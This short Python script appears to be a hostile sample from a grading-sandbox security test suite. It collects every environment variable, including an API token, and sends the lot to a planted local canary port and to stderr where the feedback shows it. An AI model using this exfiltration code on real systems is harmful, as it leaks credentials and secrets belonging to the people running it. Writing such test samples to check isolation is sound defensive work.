# Hostile: print the whole environment (a teacher's API token, paths) where the feedback shows it,
# and send it to the host's other loopback port the test listens on.
import os
import socket
import sys

from _attack import planted

env = dict(os.environ)
port = planted("canary_port.txt")
try:
    with socket.create_connection(("127.0.0.1", int(port)), timeout=1) as sock:
        sock.sendall(("x_env " + str(env)).encode())
except (OSError, ValueError):
    pass
sys.stderr.write("ENV " + repr(env) + "\n")
raise SystemExit(1)
